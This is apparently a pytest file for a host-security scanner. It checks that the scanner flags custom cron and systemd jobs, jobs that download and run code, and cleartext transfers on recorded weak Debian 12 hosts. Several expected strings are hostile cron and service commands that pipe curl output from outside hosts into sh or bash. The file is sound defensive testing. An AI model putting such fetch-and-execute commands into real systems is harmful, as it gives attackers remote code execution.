"""Facts of the area `watch` from outputs that were recorded in root file systems."""

from __future__ import annotations

from scanners.host.report import parse_report
from scanners.host.watch.area import WATCH
from tests.scanners.host.recorded import FOLDER, NONCE, facts_of, recorded

_TABLE = "/etc/cron.d/cadangan"


def test_jobs_of_a_weak_debian_12() -> None:
    """Jobs that packages brought are left out: of the distribution nothing is in the list."""
    facts = facts_of(recorded("watch", "debian-12-weak"), WATCH)
    own = facts["host.jobs_own"]
    assert isinstance(own, list)
    commands = [(one["kind"], one["owner"], one["command"]) for one in own]
    assert ("cron", "root", "/etc/cron.daily/salin") in commands
    assert ("timer", "root", "pemeriksaan.timer") in commands
    assert ("cron", "www-data", "curl *** http://203.0.113.9 | sh") in commands
    assert ("cron", "root", "/opt/app/start.sh ***") in commands
    assert ("cron", "root", "mkdir *** /srv/x && ssh *** true") in commands
    assert not [one for one in commands if "apt-compat" in one[2] or "e2scrub" in one[2]]


def test_jobs_that_fetch_and_run_code() -> None:
    facts = facts_of(recorded("watch", "debian-12-weak"), WATCH)
    assert facts["host.jobs_downloading"] == [
        "/etc/systemd/system/pemeriksaan.service: /bin/sh -c ' curl *** https://example.net | bash '",
        "/var/spool/cron/crontabs/www-data: curl *** http://203.0.113.9 | sh",
    ]


def test_transfers_in_the_clear() -> None:
    facts = facts_of(recorded("watch", "debian-12-weak"), WATCH)
    assert facts["host.transfer_plain"] == [
        f"{_TABLE}: curl *** /srv/backup/db.sql.gz ftp://10.1.0.20",
        "/etc/cron.daily/salin: rsync *** /srv/ 10.1.0.20::",
        "/usr/local/bin/kirim.sh: ncftpput *** 10.1.0.20 /backup /srv/data.tar",
        "/usr/local/bin/kirim.sh: wget *** http://data.example.go.id -o /srv/data.json",
        "/var/spool/cron/crontabs/www-data: curl *** http://203.0.113.9 | sh",
    ]


def test_no_password_of_a_job_leaves_the_host() -> None:
    """Every password in the jobs and scripts of the weak host holds the word Rahasia."""
    for path in sorted((FOLDER / "watch").glob("*.txt")):
        assert b"Rahasia" not in path.read_bytes(), path.name


def test_sudo_tells_what_root_tells() -> None:
    as_root = facts_of(recorded("watch", "debian-12-weak"), WATCH)
    assert facts_of(recorded("watch", "debian-12-sudo"), WATCH) == as_root


def test_without_sudo_what_needs_root_is_named() -> None:
    facts = facts_of(recorded("watch", "debian-12-user"), WATCH)
    unread = facts["host.unread"]
    assert isinstance(unread, list)
    needs = {one["fact"] for one in unread if one["reason"] == "needs root"}
    assert {"host.jobs_own", "host.process_odd_files", "host.transfer_plain"} <= needs
    assert facts["host.process_odd_names"] == facts["host.preload_libraries"] == []


def test_a_report_broken_off_anywhere_tells_nothing_else() -> None:
    output = (FOLDER / "watch" / "debian-12-weak.txt").read_bytes()
    whole = facts_of(parse_report(output, NONCE), WATCH)
    for part in range(0, len(output), len(output) // 40):
        facts = facts_of(parse_report(output[:part], NONCE), WATCH)
        assert all(whole[key] == value for key, value in facts.items() if key != "host.unread")
